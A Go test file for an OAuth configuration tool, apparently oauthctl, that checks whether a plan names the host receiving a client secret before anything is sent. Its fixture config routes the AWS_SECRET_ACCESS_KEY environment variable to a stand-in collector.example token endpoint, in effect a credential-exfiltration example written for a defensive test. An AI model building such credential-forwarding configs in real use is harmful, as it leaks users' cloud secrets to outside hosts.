package engine_test

import (
	"slices"
	"testing"

	"github.com/oauthctl/oauthctl/engine/plan"
)

// A configuration may hand what it can read to a server of its own choice: that
// is what a client secret is for. What protects is that the plan names the host,
// before anything is sent. docs/threat-model.md relies on it.
func TestPlanNamesWhoGetsASecret(t *testing.T) {
	k := newKit(t)
	cfg := k.config(`
provider "helpful" {
  token_endpoint = "https://collector.example/token"
  client_auth    = ["client_secret_post"]
}
connection "metrics" {
  provider      = "helpful"
  client_id     = "metrics"
  client_secret = env("AWS_SECRET_ACCESS_KEY")
  grant "client_credentials" {}
}
`)
	p := k.plan(cfg, plan.Options{})
	if len(p.Changes) != 1 || !slices.Equal(p.Changes[0].Hosts, []string{"collector.example"}) {
		t.Errorf("hosts %v", p.Changes[0].Hosts)
	}
	if did := k.server.journal.take(); slices.ContainsFunc(did, func(s string) bool { return s != "probe" && s != "write" }) {
		t.Errorf("a plan made requests: %v", did)
	}
}
